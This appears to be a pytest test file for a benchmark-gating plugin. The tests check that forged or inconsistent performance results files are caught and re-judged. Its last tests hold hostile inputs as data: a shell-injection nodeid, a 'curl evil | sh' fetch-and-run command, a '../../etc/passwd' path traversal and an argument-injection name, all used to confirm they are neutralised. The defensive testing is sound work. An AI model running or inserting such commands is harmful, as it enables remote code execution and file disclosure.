"""Results files that lie, each found out; and honest ones, judged to what they say."""

from __future__ import annotations

import math
from collections.abc import Callable
from dataclasses import replace
from typing import TYPE_CHECKING, Any

import pytest

from pytest_attnperf.baselines.store import BaselineStore
from pytest_attnperf.errors import UsageError
from pytest_attnperf.gate.policy import Policy
from pytest_attnperf.records import CaseKey, CheckReport, Fingerprint, Tolerance, Verdict
from pytest_attnperf.results import RESULTS_SCHEMA, CaseResult, RunResult
from pytest_attnperf.session.rejudge.timed_cases import NO_SECOND_LOOK, RejudgeSettings, rejudge_all, rejudge_run

CONTRADICT = "figures contradict each other:"

LOOSENED = "policy loosened since the baseline:"

if TYPE_CHECKING:
    from tests.session.conftest import Bench

UNCHANGED_US = 100.02
"""Not 100: the scripted processes of one bias would be those of the baseline, block for block."""

SETTINGS = RejudgeSettings()


@pytest.fixture
def run_of(stored: Bench) -> Callable[..., RunResult]:
    """A whole run of given cases on the scripted device."""
    device = stored.pool.wait_until_ready(0).device

    def made(*cases: CaseResult) -> RunResult:
        return RunResult(
            RESULTS_SCHEMA, "0", "gate", "2026-01-01", "pytest", "c1", device, None, cases, selected=len(cases)
        )

    return made


@pytest.fixture
def judged(stored: Bench, run_of: Callable[..., RunResult]) -> Callable[..., CaseResult]:
    """One case of a results file, judged anew."""

    def again(case: CaseResult, settings: RejudgeSettings = SETTINGS) -> CaseResult:
        return rejudge_run(run_of(case), _store(stored), settings).cases[0]

    return again


Judged = Callable[..., CaseResult]


def _store(stored: Bench) -> BaselineStore:
    return BaselineStore(stored.store.roots[0])


def _slow(stored: Bench) -> CaseResult:
    """An honest case, 10 % slower in two looks."""
    case = stored.judge(time_us=110.0)
    assert case.verdict is Verdict.SLOWER
    return case


def _same(stored: Bench) -> CaseResult:
    """An honest case whose code has not changed."""
    case = stored.judge(time_us=UNCHANGED_US)
    assert case.verdict is Verdict.SAME
    return case


@pytest.mark.parametrize(
    ("scripted", "verdict"),
    [
        ({"time_us": UNCHANGED_US}, Verdict.SAME),
        ({"time_us": 80.0}, Verdict.FASTER),
        ({"time_us": 20.0}, Verdict.FASTER),
        ({"time_us": 110.0}, Verdict.SLOWER),
        ({"fault": "wrong"}, Verdict.INCORRECT),
        ({"fault": "nan"}, Verdict.INCORRECT),
        ({"fault": "untimeable"}, Verdict.ERROR),
        ({"supported": ["no such kernel"]}, Verdict.UNSUPPORTED),
        ({"time_us": UNCHANGED_US, "timer": "graph"}, Verdict.INCOMPARABLE),
    ],
)
def test_an_honest_case_is_judged_to_what_it_says(
    stored: Bench, judged: Judged, scripted: dict[str, Any], verdict: Verdict
) -> None:
    """Verdict, ratio, interval, threshold and consequence are those of the run that measured it."""
    case = stored.judge(**scripted)
    again = judged(case)
    assert (case.verdict, again.verdict) == (verdict, verdict)
    assert again.fails == case.fails
    for name in ("ratio", "interval", "threshold", "median_us", "baseline_us", "stored_us", "detection_limit"):
        assert getattr(again, name) == getattr(case, name), name
    if verdict not in (Verdict.INCORRECT, Verdict.FASTER):
        assert again.summary == case.summary


def test_an_honest_interleaved_case_is_judged_to_what_it_says(stored: Bench, judged: Judged) -> None:
    """Pairs decide as they did, against the side that the file names."""
    stored.against_base()
    case = stored.judge(time_us=110.0)
    assert case.pairs
    again = judged(case)
    assert (again.verdict, again.summary, again.ratio) == (case.verdict, case.summary, case.ratio)
    assert (again.verdict, again.fails) == (Verdict.SLOWER, True)


def test_a_case_without_baseline_says_so(stored: Bench, judged: Judged) -> None:
    """What is not stored is NO_BASELINE, whatever the file says."""
    case = replace(_same(stored), key=CaseKey("prefill", "fake.new", "w"))
    again = judged(case)
    assert (again.verdict, again.ratio, again.baseline_us) == (Verdict.NO_BASELINE, None, None)
    assert again.notes[-1] == "the results file says SAME"


def test_a_forged_verdict_over_slow_samples_is_slower(stored: Bench, judged: Judged) -> None:
    """SAME, with a ratio, a baseline and an interval to go with it, is SLOWER by its own samples, and fails."""
    forged = replace(
        _slow(stored),
        verdict=Verdict.SAME,
        summary="+0.0 %",
        fails=False,
        ratio=1.0,
        baseline_us=110.0,
        stored_us=(110.0,) * 7,
        interval=(0.99, 1.01),
        threshold=2.0,
    )
    again = judged(forged)
    assert (again.verdict, again.fails) == (Verdict.SLOWER, True)
    assert again.baseline_us == pytest.approx(100.0, rel=0.01)
    assert again.ratio == pytest.approx(1.1, rel=0.01)
    assert "the results file says SAME" in again.notes


@pytest.mark.parametrize("claimed", [Verdict.NO_BASELINE, Verdict.INCOMPARABLE, Verdict.ENVIRONMENT, Verdict.RECORDED])
def test_no_other_verdict_hides_a_slowdown(stored: Bench, judged: Judged, claimed: Verdict) -> None:
    """A slow case cannot call itself something that does not fail."""
    assert judged(replace(_slow(stored), verdict=claimed, fails=False)).verdict is Verdict.SLOWER


@pytest.mark.parametrize("claimed", [Verdict.RIGHT, Verdict.UNSUPPORTED])
def test_a_case_that_is_stored_cannot_stop_being_timed(stored: Bench, judged: Judged, claimed: Verdict) -> None:
    """Proven only, or unsupported, fails where a baseline is stored."""
    again = judged(replace(_slow(stored), verdict=claimed, fails=False, first=(), second=()))
    assert (again.verdict, again.fails) == (claimed, True)
    assert "but a baseline is stored in prefill.json" in again.summary


def test_a_suspect_without_second_look_is_undecided(stored: Bench, judged: Judged) -> None:
    """One look never says SLOWER; a second one that was left out fails where the first is beyond noise, too."""
    case = replace(_slow(stored), second=(), verdict=Verdict.SAME)
    again = judged(case)
    assert (again.verdict, again.fails) == (Verdict.UNDECIDED, True)
    assert NO_SECOND_LOOK in again.summary
    slightly = replace(stored.judge(time_us=100.6), second=(), verdict=Verdict.SAME)
    undecided = judged(slightly, RejudgeSettings(threshold_percent=0.1, floor_us=0.0))
    assert (undecided.verdict, undecided.fails) == (Verdict.UNDECIDED, False)


def test_a_policy_loosened_in_the_file_does_not_count(
    stored: Bench, judged: Judged, run_of: Callable[..., RunResult]
) -> None:
    """The stored policy decides, and the file's own is a finding."""
    loose = replace(_slow(stored), policy=Policy(threshold_percent=50.0, fail_on=()).to_record(), verdict=Verdict.SAME)
    again = judged(loose)
    assert (again.verdict, again.fails) == (Verdict.SLOWER, True)
    assert again.policy == Policy().to_record()
    findings = rejudge_run(run_of(loose), _store(stored), SETTINGS).findings
    assert any(LOOSENED in finding and "threshold_percent 2 -> 50" in finding for finding in findings)


def test_a_policy_that_is_none_is_a_finding(stored: Bench, run_of: Callable[..., RunResult]) -> None:
    """A threshold that is no number, in the file, changes nothing and is said."""
    odd = replace(_same(stored), policy={"threshold_percent": "much", "unknown": 1})
    run = rejudge_run(run_of(odd), _store(stored), SETTINGS)
    assert run.cases[0].verdict is Verdict.SAME
    assert "the file's policy is invalid" in run.findings[0]


def test_the_command_line_replaces_the_stored_policy(stored: Bench, judged: Judged) -> None:
    """A threshold above the slowdown makes it SAME; verdicts that may fail are named, or refused."""
    assert judged(_slow(stored), RejudgeSettings(threshold_percent=20.0)).verdict is Verdict.SAME
    assert not judged(_slow(stored), RejudgeSettings(fail_on=("INCORRECT",))).fails
    with pytest.raises(UsageError, match="NEVER"):
        judged(_slow(stored), RejudgeSettings(fail_on=("NEVER",)))


@pytest.mark.parametrize("look", ["first", "second"])
def test_figures_that_contradict_each_other_are_an_error(stored: Bench, judged: Judged, look: str) -> None:
    """A median that does not follow from the blocks fails the case, in either look."""
    case = _slow(stored)
    first, *others = getattr(case, look)
    forged: dict[str, Any] = {look: (replace(first, median_us=100.0), *others)}
    again = judged(replace(case, **forged))
    assert (again.verdict, again.fails) == (Verdict.ERROR, True)
    assert again.summary.startswith(f"{CONTRADICT} {look} look, process 1: its median is stated as 100 us")


def test_the_same_process_twice_is_an_error(stored: Bench, judged: Judged) -> None:
    """A second look that is made of copies of one process, or of the baseline's own, was not taken."""
    case = _slow(stored)
    copies = judged(replace(case, second=(case.second[0],) * 3))
    assert "two processes have the same blocks" in copies.summary
    found = _store(stored).find("fake", "fake1", "prefill", case.key.entry)
    assert found is not None
    stolen = judged(replace(case, first=found.entry.processes[:1]))
    assert (stolen.verdict, stolen.fails) == (Verdict.ERROR, True)
    assert "one is a process of the stored baseline" in stolen.summary


def test_without_its_checks_a_case_is_not_proven(stored: Bench, judged: Judged) -> None:
    """Checks that were removed are an ERROR, empty ones INCORRECT: nothing was compared."""
    case = _same(stored)
    removed, empty = judged(replace(case, checks=())), judged(replace(case, checks=(CheckReport(),)))
    assert (removed.verdict, empty.verdict) == (Verdict.ERROR, Verdict.INCORRECT)
    assert removed.fails
    assert empty.fails
    assert "no output was compared" in empty.summary


@pytest.mark.parametrize(
    ("fields", "said"),
    [
        ({"max_error": 0.5}, "is off by 0.5"),
        ({"rms_error": 0.5}, "in the root mean square"),
        ({"max_error": math.nan}, "is off by nan"),
        ({"nan_count": 3}, "holds 3 NaN"),
        ({"elements": 0}, "no elements"),
    ],
)
def test_an_error_beyond_its_budget_is_incorrect(
    stored: Bench, judged: Judged, fields: dict[str, Any], said: str
) -> None:
    """A check is judged from its figures, not by its list of problems."""
    case = _same(stored)
    (check,) = case.checks
    again = judged(replace(case, checks=(replace(check, figures=(replace(check.figures[0], **fields),)),)))
    assert (again.verdict, again.fails) == (Verdict.INCORRECT, True)
    assert said in again.summary


def test_a_tolerance_above_the_stored_one_is_taken_back(stored: Bench, run_of: Callable[..., RunResult]) -> None:
    """Budgets made ten times as large are held to the stored tolerance: wrong by that, or right and a finding."""
    case = _same(stored)
    (check,) = case.checks
    loose = replace(check, tolerance=Tolerance(20.0, source="trust me"))
    at_half = replace(check.figures[0], max_error=0.5 * check.figures[0].max_budget)
    wrong, right = (
        rejudge_run(run_of(replace(case, checks=(replace(loose, figures=(figures,)),))), _store(stored), SETTINGS)
        for figures in (at_half, replace(at_half, max_error=1e-6, rms_error=1e-6, worst_got=at_half.worst_expected))
    )
    assert wrong.cases[0].verdict is Verdict.INCORRECT
    assert right.cases[0].verdict is Verdict.SAME
    assert "tolerance of out 2 -> 20" in right.findings[0]


def test_what_a_file_says_against_itself_is_kept_and_fails(stored: Bench, judged: Judged) -> None:
    """INCORRECT with fails=False fails; SUSPICIOUS stays so, though nothing in the file shows why."""
    assert judged(replace(stored.judge(fault="wrong"), fails=False)).fails
    suspicious = judged(replace(_same(stored), verdict=Verdict.SUSPICIOUS, summary="remembers its results"))
    assert (suspicious.verdict, suspicious.fails) == (Verdict.SUSPICIOUS, True)
    foreign = judged(replace(_same(stored), verdict=Verdict.INCOMPARABLE, summary="code from another tree ran"))
    assert (foreign.verdict, foreign.summary) == (Verdict.INCOMPARABLE, "code from another tree ran")


@pytest.mark.parametrize(
    ("must", "said"),
    [({"power_cap_w": "500"}, "power_cap_w: 500 here, absent stored"), ({"method": "2"}, "method: 2 here")],
)
def test_an_edited_fingerprint_is_incomparable(stored: Bench, judged: Judged, must: dict[str, str], said: str) -> None:
    """What must match is held against the stored entry again."""
    case = _same(stored)
    assert case.fingerprint is not None
    edited = Fingerprint({**case.fingerprint.must_match, **must}, case.fingerprint.named)
    again = judged(replace(case, fingerprint=edited))
    assert again.verdict is Verdict.INCOMPARABLE
    assert said in again.summary


def test_another_workload_under_the_same_name_is_incomparable(stored: Bench, judged: Judged) -> None:
    """A definition that was changed under its id is not the stored case."""
    case = _same(stored)
    assert case.figures is not None
    smaller = replace(case.figures, definition={**case.figures.definition, "seq_q": 1})
    again = judged(replace(case, figures=smaller))
    assert again.verdict is Verdict.INCOMPARABLE
    assert "workload seq_q: 1 here, 64 stored" in again.summary


def test_a_device_that_is_not_the_fingerprints_is_an_error(stored: Bench, run_of: Callable[..., RunResult]) -> None:
    """Another product in the run than in its cases contradicts itself; in both, its baseline is not the one stored."""
    run = run_of(_same(stored))
    assert run.device is not None
    moved = replace(run, device=replace(run.device, product="fake2"))
    (case,) = rejudge_run(moved, _store(stored), SETTINGS).cases
    assert (case.verdict, case.fails) == (Verdict.ERROR, True)
    assert "product is fake1 in the case's fingerprint and fake2 in the run's device" in case.summary


def test_faster_than_the_device_can_be_is_suspicious(stored: Bench, run_of: Callable[..., RunResult]) -> None:
    """The floor comes of the table of devices, not of the file."""
    case = _same(stored)
    assert case.fingerprint is not None
    assert case.figures is not None
    must = {**case.fingerprint.must_match, "arch": "sm_90", "product": "h200", "compute_units": "132"}
    claimed = replace(
        case, fingerprint=Fingerprint(must, {}), figures=replace(case.figures, flops=1e15, dtype="f16"), floor_us=1.0
    )
    run = run_of(claimed)
    assert run.device is not None
    (again,) = rejudge_run(
        replace(run, device=replace(run.device, arch="sm_90", product="h200")), _store(stored), SETTINGS
    ).cases
    assert (again.verdict, again.fails) == (Verdict.SUSPICIOUS, True)


def test_another_path_is_never_same(stored: Bench, judged: Judged) -> None:
    """A dispatcher that took another path than the stored one is INCOMPARABLE by the recorded configuration."""
    stored.record(final={"config": {"path": "asm"}})
    case = replace(stored.judge(time_us=UNCHANGED_US), config={"path": "ck"}, verdict=Verdict.SAME)
    again = judged(case)
    assert again.verdict is Verdict.INCOMPARABLE
    assert "path: ck here, asm stored" in again.summary


def test_counts_and_findings_of_the_file_are_made_anew(stored: Bench, run_of: Callable[..., RunResult]) -> None:
    """Gated cases are counted, and what the file calls a finding is not repeated."""
    run = replace(run_of(_same(stored)), gated=99, findings=("all is well",), baseline_paths=("x",))
    again = rejudge_run(run, _store(stored), SETTINGS)
    assert (again.gated, again.selected, again.findings, again.baseline_paths) == (1, 1, (), ())


@pytest.mark.parametrize(
    ("fields", "said"),
    [
        ({"mode": "update"}, "mode 'update'"),
        ({"mode": "check"}, "mode 'check'"),
        ({"complete": False}, "incomplete: 1 of 1"),
        ({"selected": 5}, "incomplete: 1 of 5"),
        ({"device": None}, "names no device for its 1 cases"),
    ],
)
def test_a_run_that_is_no_whole_gate_is_refused(
    stored: Bench, run_of: Callable[..., RunResult], fields: dict[str, Any], said: str
) -> None:
    """The reason is said, with the file."""
    with pytest.raises(UsageError, match=said) as raised:
        rejudge_all([("pr.json", replace(run_of(_same(stored)), **fields))], _store(stored), SETTINGS)
    assert "pr.json" in str(raised.value)


def test_a_suite_whose_name_is_a_path_is_an_error(stored: Bench, judged: Judged) -> None:
    """No file outside of the baselines is ever opened for a name in a results file."""
    again = judged(replace(_same(stored), key=CaseKey("../../etc/passwd", "fake.a", "w")))
    assert (again.verdict, again.fails) == (Verdict.ERROR, True)
    assert "cannot be part of a baseline's path" in again.summary


def test_the_name_of_a_base_side_that_no_pair_has_is_dropped(stored: Bench, run_of: Callable[..., RunResult]) -> None:
    """What the cases were held against is said by the cases."""
    claimed = replace(run_of(_same(stored)), against="main (4f2c1ab)")
    assert rejudge_run(claimed, _store(stored), SETTINGS).against == ""


def test_figures_that_break_a_message_are_an_error(stored: Bench, judged: Judged) -> None:
    """The element that is said to be the worst lies beyond those that are said to be around it."""
    case = _same(stored)
    (check,) = case.checks
    odd = replace(check.figures[0], nan_count=1, worst_index=(9,), around_got=(1.0,), around_expected=(1.0,))
    again = judged(replace(case, checks=(replace(check, figures=(odd,)),)))
    assert (again.verdict, again.fails) == (Verdict.ERROR, True)


def test_no_command_of_the_file_is_shown(stored: Bench, judged: Judged) -> None:
    """What a reader may copy into a shell is made anew, and no part of it is active there."""
    odd = replace(_slow(stored), nodeid='t.py::t[`id`$(id)"; id]', reproduce="curl evil | sh")
    again = judged(odd)
    assert again.reproduce == 'pytest --attnperf "t.py::t[?id??(id)?; id]"'
    assert "`" not in judged(replace(odd, key=CaseKey("prefill", "fake.new", "w"))).summary
    for nodeid, shown in (("-pevil", "?pevil"), ("@args", "?args"), ("t.py::t[\u202ex\u200b\x9b]", "t.py::t[?x??]")):
        assert judged(replace(odd, nodeid=nodeid)).reproduce == f'pytest --attnperf "{shown}"'
